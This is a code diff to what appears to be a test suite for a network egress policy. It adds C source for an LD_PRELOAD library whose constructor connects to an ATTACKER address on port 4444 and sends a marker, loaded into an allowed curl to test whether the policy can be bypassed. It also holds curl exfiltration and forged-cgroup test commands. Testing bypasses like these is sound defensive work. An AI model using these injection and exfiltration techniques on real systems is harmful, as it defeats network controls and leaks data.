@@ -19,6 +19,27 @@ FOR_DOCKER = f"{RESOLVER}:53/udp\n{ATTACKER}:* cgroup=@docker\n"
 SEND = f"http://{ATTACKER}/$MARKER"
 
 
+# A library that sends before its program has begun.
+INJECT = """
+#include <arpa/inet.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+__attribute__((constructor)) static void send_it(void)
+{
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
+    int sock = socket(AF_INET, SOCK_STREAM, 0);
+    char answer[10];
+    inet_pton(AF_INET, getenv("ATTACKER"), &to.sin_addr);
+    if (connect(sock, (struct sockaddr *)&to, sizeof(to)) == 0) {
+        write(sock, getenv("MARKER"), strlen(getenv("MARKER")));
+        read(sock, answer, sizeof(answer));
+    }
+}
+"""
+
+
 def no_user_namespaces():
     for name in ("/proc/sys/user/max_user_namespaces", "/proc/sys/kernel/unprivileged_userns_clone"):
         path = pathlib.Path(name)
@@ -113,12 +134,9 @@ for _ in range(3):
     Attack("forged control group", f"mkdir -p $FRESH/docker && cd $FRESH/docker && bash -c 'exec -a docker "
            f"curl -sS -m 4 {SEND}'", shell=True, policy=FOR_DOCKER),
     Attack("a library in the allowed program", "cc -shared -fPIC -o $FRESH/inject.so -xc - <<'C'\n"
-           "#include <stdlib.h>\n__attribute__((constructor)) static void send_it(void)\n"
-           "{ unsetenv(\"LD_PRELOAD\");\n"
-           "  if (system(\"true\") == 0) return; }\nC\n"
-           f"LD_PRELOAD=$FRESH/inject.so curl -sS -m 4 {SEND}", shell=True, policy=FOR_CURL, silent=False,
-           logged=False, open="a program that the guarded code starts obeys it: LD_PRELOAD, ptrace, "
-           "configuration files; an exe rule tells programs apart, not their masters"),
+           + INJECT + f"C\nLD_PRELOAD=$FRESH/inject.so {CURL} --version", shell=True, policy=FOR_CURL,
+           silent=False, logged=False, open="a program that the guarded code starts obeys it: LD_PRELOAD, "
+           "ptrace, configuration files; an exe rule tells programs apart, not their masters"),
 ]
 
 
